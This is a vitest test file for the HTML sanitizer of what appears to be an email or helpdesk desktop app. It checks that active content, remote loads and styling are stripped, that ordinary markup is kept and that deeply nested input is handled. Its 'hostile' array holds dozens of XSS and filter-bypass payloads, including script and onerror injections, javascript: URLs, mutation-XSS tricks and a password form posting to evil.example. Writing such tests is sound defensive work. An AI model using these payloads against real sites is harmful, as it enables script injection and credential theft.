import { existsSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { Parser } from 'htmlparser2';
import { expect, test } from 'vitest';
import { formattedMessage, type ImageSources } from '../../../src/main/desk/formatted.ts';

const none: ImageSources = { inline: () => Promise.resolve(null), remote: null };
const clean = async (html: string): Promise<string> => (await formattedMessage(html, none)).html;

const allowedAttributes = new Set(['href', 'src', 'alt', 'width', 'height', 'colspan', 'rowspan', 'start']);
const activeTags = new Set(['script', 'style', 'svg', 'math', 'iframe', 'object', 'embed', 'form', 'input', 'base', 'link', 'meta', 'template', 'video', 'audio']);

/** Everything in it that a page could run, load or be dressed by. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (activeTags.has(name)) found.push(name);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!allowedAttributes.has(attribute)) found.push(`${name} ${attribute}`);
        const address = Array.from(value).filter((character) => character > ' ').join('').toLowerCase();
        if (attribute === 'href' && /^[a-z][a-z0-9+.-]*:/u.test(address) && !/^(?:https?|mailto):/u.test(address)) found.push(value);
        if (attribute === 'src' && !/^data:image\/(?:png|jpeg|gif|webp);base64,/u.test(value)) found.push(value);
      }
    },
  }, { decodeEntities: true });
  parser.end(html);
  return found;
}

const hostile = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<a href="javascript:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/x">x</a>', '<a href="app://console/">x</a>', '<a href="file:///etc/passwd">x</a>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>*{display:none}</style><p>x', '<p style="position:fixed;top:0">x</p>', '<p class="app" id="root">x</p>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>', '<form action="https://evil.example"><input name=password></form>', '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<link rel=stylesheet href=https://evil.example/x.css>', '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>', '<img src="data:image/svg+xml;base64,PHN2Zz4=">', '<img src="data:image/png;base64,AA==" onload=alert(1)>',
  '<img src="data:text/html;base64,AA==">', '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/x">x', '<video src=x onerror=alert(1)>',
  '<a href="https://ok.example" target="_self" onclick="alert(1)" ping="https://evil.example">x</a>', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<textarea><img src=x onerror=alert(1)></textarea>', '<xmp><img src=x onerror=alert(1)></xmp>', '<plaintext><img src=x onerror=alert(1)>', '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<a title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', '<img src="cid:x" onerror="alert(1)">',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
];

test.each(hostile)('nothing that runs, loads or dresses is left of %s', async (html) => {
  const once = await clean(html);
  expect(dangers(once)).toEqual([]);
  expect(dangers(await clean(once))).toEqual([]);
});

test('the check itself knows what is dangerous', () => {
  expect(hostile.filter((html) => dangers(html).length > 0).length).toBeGreaterThan(25);
});

const naughty = resolve(import.meta.dirname, '../../../../shared/data/hostile/naughty-strings/blns.json');
test.skipIf(!existsSync(naughty))('nothing is left of any naughty string, alone, in an attribute or in a link', async () => {
  const strings = JSON.parse(readFileSync(naughty, 'utf8')) as string[];
  expect(strings.length).toBeGreaterThan(400);
  for (const string of strings) {
    for (const html of [string, `<p>${string}</p>`, `<a href="${string}">x</a>`, `<img alt="${string}" src="data:image/png;base64,AA==">`]) {
      expect(dangers(await clean(html))).toEqual([]);
    }
  }
});

test('what people write stays', async () => {
  const html = '<h2>Hi</h2><p>A <b>kettle</b> &amp; <a href="https://example.com/?a=1&amp;b=2">a link</a>, <a href="mailto:a@example.com">mail</a></p><ul><li>one</li></ul>';
  expect(await clean(html)).toBe(html);
});

test('remote images are counted and left out; asked for, they are the picture or nothing', async () => {
  const html = '<p><img src="https://a.example/1.png" alt="one"><img src="HTTP://a.example/2.png"><img src="cid:logo"></p>';
  expect(await formattedMessage(html, none)).toEqual({ html: '<p></p>', blockedImages: 2 });
  const shown = await formattedMessage(html, {
    inline: (id) => Promise.resolve(id === 'logo' ? 'data:image/png;base64,TE9HTw==' : null),
    remote: (url) => Promise.resolve(url === 'https://a.example/1.png' ? 'data:image/png;base64,T05F' : null),
  });
  expect(shown).toEqual({ html: '<p><img src="data:image/png;base64,T05F" alt="one" /><img src="data:image/png;base64,TE9HTw==" alt="" /></p>', blockedImages: 0 });
});

test('a message with thousands of images asks for fifty', async () => {
  let asked = 0;
  await formattedMessage(Array.from({ length: 2_000 }, (_, index) => `<img src="https://a.example/${index}">`).join(''), {
    ...none, remote: () => {
      asked += 1;
      return Promise.resolve(null);
    },
  });
  expect(asked).toBe(50);
});

test.each(['<div>', '<b></x>', '<p><i>', '<X><div>', '<table><tr><td>'])('a message nested a hundred thousand deep by %s does not keep the console busy', async (tag) => {
  const started = performance.now();
  expect(await clean(`first${tag.repeat(100_000)}`)).toContain('first');
  expect(performance.now() - started).toBeLessThan(5_000);
});

test('a long message that is nested as people nest is shown to its end', async () => {
  const row = '<tr><td><div><font>cell<br></font></div><p>text<ul><li>one<li>two</ul></td></tr>';
  expect(await clean(`<table>${row.repeat(5_000)}</table>the end`)).toContain('the end');
});
